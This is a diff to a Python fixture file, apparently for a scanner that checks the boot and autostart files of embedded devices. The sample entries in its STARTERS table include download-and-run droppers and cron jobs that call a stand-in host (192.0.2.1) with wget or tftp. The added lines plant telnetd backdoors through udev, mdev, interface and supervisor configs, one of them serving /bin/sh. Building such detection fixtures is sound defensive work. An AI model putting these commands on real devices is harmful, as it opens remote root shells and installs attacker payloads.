@@ -140,7 +140,7 @@ def files():
     for name, program in PROGRAMS.items():
         yield "update", name, bytes(program)
     for name, (kind, text) in STARTERS.items():
-        yield "starters", name, bytes([kind]) + text.encode()
+        yield "autostart", name, bytes([kind]) + text.encode()
     for name, (percent, text) in ACCOUNTS.items():
         yield "accounts", name, bytes([percent]) + text.encode()
 
@@ -248,6 +248,12 @@ STARTERS = {
     "dropper": (3, "cd /tmp || cd /var; wget http://192.0.2.1/b; chmod 777 b; ./b\n"),
     "cron": (4, "*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n@reboot telnetd\n"),
     "cron-of-users": (5, "@daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n* * * * * root telnetd\n"),
+    "words": (3, "cat <<-E\n\ttelnetd\n\tE\nf() { \"$@\"; }\nB=/bin/busybox; f ${X:-$B} $(a `b`) telnetd\ncase $1 in (a|b) eval \"c $d\";; esac\n"),
+    "calls": (3, ". /lib/x.sh\nfor i in /etc/rc.d/S*; do $i start; done\ntaskset 2 utelnetd\nexec nice -n 5 sshd\n"),
+    "interfaces": (8, "iface e inet dhcp\n\tup telnetd; x\n"),
+    "udev": (9, "ACTION==\"add\", RUN+=\"/usr/sbin/telnetd -l /bin/sh\"\n"),
+    "mdev": (10, "ttyUSB[0-9]* root:tty 660 @telnetd -p 99\n"),
+    "supervised": (7, "#!/bin/sh\nexec telnetd -F\n"),
     "unit": (6, "[Service]\nExecStart=-/usr/sbin/in.telnetd \\\n  -h\n"),
 }
 # How many percent are the first file, and both files.
